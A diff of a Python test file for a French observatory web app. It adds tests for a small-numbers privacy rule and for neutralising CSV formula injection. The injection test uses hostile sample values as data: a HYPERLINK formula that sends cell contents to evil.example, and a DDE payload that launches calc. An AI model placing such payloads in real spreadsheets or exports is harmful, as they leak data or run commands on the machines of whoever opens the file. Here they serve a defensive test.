@@ -217,7 +217,7 @@ def test_barriers_page_pages_a_large_group_and_links_to_it(session, make, client
     first = client.get("/observatoire/freins?kind=partenarial&actor=intervenant").get_data(as_text=True)
     second = client.get("/observatoire/freins?kind=partenarial&actor=intervenant&page=2").get_data(as_text=True)
     assert first.count("Frein n°") == 50 and second.count("Frein n°") == 10
-    assert "60 freins." in first
+    assert "&lt; 3 freins." in first  # 60 barriers, but all from one action
 
 
 def test_levers_and_effects_pages_quote_every_published_finding(session, make, client):
@@ -228,7 +228,7 @@ def test_levers_and_effects_pages_quote_every_published_finding(session, make, c
     make.action(title="Projet en brouillon", publication_status="brouillon")
     session.commit()
     levers = client.get("/observatoire/leviers").get_data(as_text=True)
-    assert "1 levier." in levers and "Le soutien de la direction du centre social." in levers
+    assert "&lt; 3 levier." in levers and "Le soutien de la direction du centre social." in levers
     effects = client.get("/observatoire/effets").get_data(as_text=True)
     assert "Trois personnes ont repris un emploi." in effects
     assert "Indicateur : personnes en emploi ; avant : 0, après : 3 ; mesuré ; relevé par la coordinatrice" in effects
@@ -350,3 +350,23 @@ def test_figures_groups_and_merges_agree_on_both_databases(any_app):
         publics = figures.actions_by_tags(session, every)["public"]
         assert publics.lines() == [["Jeunes de 16 à 25 ans", "6"]]
         assert figures.actions_by_territory_and_mode(session, ObservatoryFilters(public="jeunes")).lines()[-1][-1] == "6"
+
+
+def test_counts_of_quotes_and_of_the_dashboard_follow_the_small_numbers_rule(session, make, client):
+    make.action(title="Seule action", themes=["Violences faites aux femmes"])
+    session.commit()
+    dashboard = client.get("/observatoire/?theme=violences-faites-aux-femmes").get_data(as_text=True)
+    assert "(&lt; 3 avec ces critères)" in dashboard
+    quotes = client.get("/observatoire/freins?theme=violences-faites-aux-femmes").get_data(as_text=True)
+    assert "Point de vue : chef·fe de service <span class=\"count\">(&lt; 3)</span>" in quotes
+    paged = client.get("/observatoire/freins?kind=institutionnel&actor=chef_service").get_data(as_text=True)
+    assert "&lt; 3 frein." in paged
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(session, make, client):
+    for n in range(3):
+        make.action(title=f"Action {n}", themes=['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|calc!A0"])
+    session.commit()
+    rows = read_csv(client.get("/observatoire/donnees/actions-par-theme.csv"))
+    assert ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "3"] in rows and ["'+cmd|calc!A0", "3"] in rows
+    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
